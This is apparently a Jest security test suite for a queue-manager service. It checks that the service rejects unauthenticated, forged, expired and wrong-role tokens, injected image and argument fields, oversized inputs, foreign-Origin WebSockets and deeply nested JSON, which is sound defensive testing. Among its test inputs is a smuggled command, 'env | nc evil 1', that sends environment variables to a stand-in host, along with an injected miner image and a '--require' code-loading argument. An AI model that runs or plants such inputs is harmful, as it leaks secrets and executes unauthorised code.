/**
 * The built queue-manager bundle, with authentication on (an OIDC issuer stand-in and an API token
 * file), against what a hostile client on the network would try; the last test proves the refused
 * WebSocket left no socket that holds up the SIGTERM shutdown.
 */
import WebSocket from 'ws';
import { OidcStandIn, writeApiTokenFile } from '@streamforge/queue-api/testing';
import { killAllWorkerProcesses } from '@streamforge/worker/testing';
import { queueManagerEnv, startQueueManager, type QueueManagerProcess } from './queue-manager-process';

let qm: QueueManagerProcess;
let oidc: OidcStandIn;
const apiTokens = writeApiTokenFile(['viewer', 'operator']);
const operator = { authorization: `Bearer ${apiTokens.tokens.operator}` };
const dummyStart = { symbol: 'BTCUSDT', time_range: '2024-08-01:2024-08-01', targets: [{ target: 'dummy-service', type: 'dummy' }] };

beforeAll(async () => {
  oidc = await new OidcStandIn().start();
  qm = await startQueueManager(queueManagerEnv({
    API_TOKENS_FILE: apiTokens.path,
    OIDC_ISSUER: oidc.issuer, OIDC_AUDIENCE: oidc.audience,
    // Bundles live elsewhere: nothing in this suite may reach a worker.
    WORKER_BUNDLE_ROOT: '/nonexistent',
  }));
}, 60_000);
afterAll(async () => {
  // Bounded: a refused upgrade whose socket stayed open once made this wait forever.
  await Promise.race([qm?.stop(), new Promise((_, reject) => setTimeout(() => reject(new Error('queue-manager did not exit within 15 s of SIGTERM')), 15_000))]);
  await oidc?.close();
  killAllWorkerProcesses();
});

type Envelope = { status: string; message: string; data: { errors?: Array<{ path: string; message: string }> } | null };
async function call(method: string, path: string, options: { headers?: Record<string, string>; body?: unknown; raw?: string } = {}) {
  const body = options.raw ?? (options.body === undefined ? undefined : JSON.stringify(options.body));
  const res = await fetch(`${qm.url}${path}`, { method, headers: { ...(options.body !== undefined ? { 'content-type': 'application/json' } : {}), ...options.headers }, body });
  const text = await res.text();
  return { status: res.status, body: JSON.parse(text) as Envelope, bytes: text.length };
}
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

describe('a hostile client against the built queue-manager', () => {
  it('no token: 401 on reads and starts; probes and metrics stay open', async () => {
    expect((await call('GET', '/queues')).status).toBe(401);
    expect(await call('POST', '/queues/start', { body: dummyStart })).toMatchObject({ status: 401, body: { status: 'error', message: expect.stringMatching(/^authentication required/) } });
    expect((await fetch(`${qm.url}/health/live`)).status).toBe(200);
    expect((await fetch(`${qm.url}/metrics`)).status).toBe(200);
  });

  it('a token of another issuer, an expired one, a forged one: 401', async () => {
    expect((await call('GET', '/queues', { headers: bearer(await oidc.sign({ iss: 'https://evil.example/realms/streamforge' })) })).body.message).toBe('invalid bearer token: claim iss does not match');
    expect((await call('GET', '/queues', { headers: bearer(await oidc.sign({ expiresIn: -60 })) })).body.message).toBe('invalid bearer token: expired');
    expect((await call('GET', '/queues', { headers: bearer(await oidc.sign({ unpublishedKey: true })) })).status).toBe(401);
    expect((await call('GET', '/queues', { headers: bearer(await oidc.sign()) })).status).toBe(200);
  });

  it('a viewer starting or stopping: 403', async () => {
    const viewerJwt = await oidc.sign({ roles: ['streamforge-viewer'] });
    expect((await call('POST', '/queues/start', { headers: bearer(viewerJwt), body: dummyStart })).status).toBe(403);
    expect((await call('POST', '/queues/stop', { headers: bearer(apiTokens.tokens.viewer), body: { queue_id: 'wf-x' } })).status).toBe(403);
  });

  it('an operator cannot choose the image or pass free arguments: 400 naming the field', async () => {
    const image = await call('POST', '/queues/start', { headers: operator, body: { ...dummyStart, targets: [{ target: 'dummy-service', type: 'dummy', image: 'evil/miner:latest' }] } });
    expect(image.status).toBe(400);
    expect(image.body.message).toMatch(/targets\.0: Unrecognized key: "image"/);
    const shell = await call('POST', '/queues/start', { headers: operator, body: { ...dummyStart, targets: [{ target: 'dummy-service', type: 'dummy', args: ['sh', '-c', 'env | nc evil 1'] }] } });
    expect(shell.status).toBe(400);
    expect(shell.body.data?.errors?.[0]).toEqual({ path: 'targets.0.args.0', message: expect.stringMatching(/^"sh" is not a flag dummy-service accepts/) });
    const flow = await call('POST', '/queues/start-test-flow', { headers: operator, body: { flow_name: 'dummy_flow', symbol: 'BTCUSDT', time_range: '2024-08-01:2024-08-01', extra_params: { args: ['--require', '/tmp/x.js'] } } });
    expect(flow.body.data?.errors?.[0].path).toBe('extra_params.args.0');
  });

  it('a padded range and a century-long one: a short 400, nothing stored', async () => {
    const padded = await call('POST', '/queues/start', { headers: operator, body: { symbol: 'BTCUSDT', type: 'api_candles_1m', time_range: `${' '.repeat(300_000).slice(0, 60_000)}2024-08-01:2024-08-01` } });
    expect(padded.status).toBe(400);
    expect(padded.bytes).toBeLessThan(1_000);
    const century = await call('POST', '/queues/start', { headers: operator, body: { symbol: 'BTCUSDT', type: 'api_candles_1s', time_range: '0100-01-01:9999-12-31' } });
    expect(century.status).toBe(400);
    expect(century.body.message).toMatch(/1s candles for loader-api-candles; at most 5,000,000 per queue/);
    expect((await call('GET', '/queues', { headers: operator })).body.data).toEqual([]);
  });

  it('a foreign page: its Origin may not open /ws/topic even with a token (403), and a form POST is refused (415)', async () => {
    const refused = await new Promise<number>((resolve, reject) => {
      const socket = new WebSocket(`${qm.url.replace('http', 'ws')}/ws/topic`, ['streamforge.v1', `bearer.${apiTokens.tokens.viewer}`], { origin: 'https://evil.example' });
      socket.once('unexpected-response', (_request, response) => resolve(response.statusCode ?? 0));
      socket.once('open', () => reject(new Error('a foreign Origin opened /ws/topic')));
      socket.once('error', reject);
    });
    expect(refused).toBe(403);
    const form = await call('POST', '/queues/start', { headers: { ...operator, 'content-type': 'application/x-www-form-urlencoded' }, raw: 'symbol=BTCUSDT&time_range=2024-08-01:2024-08-01' });
    expect(form.status).toBe(415);
  });

  it('deeply nested JSON: 400, and the service keeps answering', async () => {
    const deep = await call('POST', '/queues/start', { headers: { ...operator, 'content-type': 'application/json' }, raw: `{"symbol":${'['.repeat(10_000)}${']'.repeat(10_000)}}` });
    expect(deep.status).toBe(400);
    expect((await fetch(`${qm.url}/health/live`)).status).toBe(200);
  });
});
